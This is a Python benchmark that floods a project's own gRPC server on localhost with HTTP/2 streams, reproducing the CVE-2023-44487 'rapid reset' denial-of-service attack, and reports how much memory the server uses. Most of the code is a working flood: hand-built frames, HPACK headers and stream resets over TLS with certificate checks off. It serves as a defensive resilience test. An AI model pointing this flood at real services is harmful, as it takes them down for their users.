"""Memory of the decoder link's server while strangers open HTTP/2 streams.

    GRPC_VERBOSITY=NONE python benchmarks/link_flood.py  # hides a line for each failed handshake

The attack of CVE-2023-44487 ("rapid reset") over TLS with large headers, from separate processes.
Every other process does not reset its streams. A stranger only knows the address, and has no token
and no key of a unit's certificate. Prints the server's memory.
"""

import argparse
import multiprocessing
import socket
import ssl
import time
from itertools import count
from select import select

import grpc
import psutil
from arguments import at_least
from machine import machine

from collapipe.sections import LinkSettings
from collapipe.wire.link import METHOD
from server_app.decoding.link import DecoderLinkServer

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
STREAMS_A_WRITE = 100
LARGE = b"x" * 6000  # below gRPC's limit of 8 KiB


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
    return head + stream.to_bytes(4, "big") + payload


def length(size: int) -> bytes:
    """An HPACK integer of seven bits, with two more bytes if it does not fit."""
    rest = size - 127
    return bytes([size] if rest < 0 else [127, rest % 128 + 128, rest // 128])


def headers() -> bytes:
    """A call of the link's method, in HPACK without Huffman codes (RFC 7541), without a token."""
    fields = b"\x83\x87"  # :method POST, :scheme https
    fields += b"\x04" + bytes([len(METHOD)]) + METHOD.encode()
    for name, value in (
        (b"large", LARGE),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ):
        fields += b"\x00" + bytes([len(name)]) + name + length(len(value)) + value
    return fields


def flood(port: int, seconds: float, resets: bool) -> None:
    """Open streams over successive connections until the time is over."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    end, sent, connections = time.monotonic() + seconds, 0, 0
    call, reset = headers(), (8).to_bytes(4, "big")
    while time.monotonic() < end:
        connections += 1
        try:
            with (
                socket.create_connection(("127.0.0.1", port), 5) as plain,
                context.wrap_socket(plain) as secure,
            ):
                secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                for first in count(1, 2 * STREAMS_A_WRITE):
                    streams = range(first, first + 2 * STREAMS_A_WRITE, 2)
                    secure.sendall(
                        b"".join(
                            frame(HEADERS, END_HEADERS, stream, call)
                            + (frame(RST_STREAM, 0, stream, reset) if resets else b"")
                            for stream in streams
                        )
                    )
                    sent += STREAMS_A_WRITE
                    while secure.pending() or select([secure], [], [], 0)[0]:
                        if not secure.recv(2**16):
                            raise ConnectionError("closed")
                    if time.monotonic() > end:
                        break
        except OSError:
            time.sleep(0.01)
    print(f"  a stranger sent {sent:,} streams over {connections:,} connections", flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--strangers", type=at_least(1), default=4)
    arguments = parser.parse_args()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    own = psutil.Process()
    fork = multiprocessing.get_context("fork")
    strangers = [
        fork.Process(target=flood, args=(port, arguments.seconds, not place % 2))
        for place in range(arguments.strangers)
    ]
    for stranger in strangers:  # before gRPC starts threads, which do not survive a fork
        stranger.start()
    with DecoderLinkServer(LinkSettings(port=port), 3):
        sizes = [own.memory_info().rss]
        while any(stranger.is_alive() for stranger in strangers):
            strangers[0].join(0.5)
            time.sleep(0.1)
            sizes.append(own.memory_info().rss)
    print(machine(), "grpcio", grpc.__version__)
    first, most, last = (size / 2**20 for size in (sizes[0], max(sizes), sizes[-1]))
    print(f"server: {first:,.0f} MiB before, {most:,.0f} MiB at most, {last:,.0f} MiB at the end")


if __name__ == "__main__":
    main()
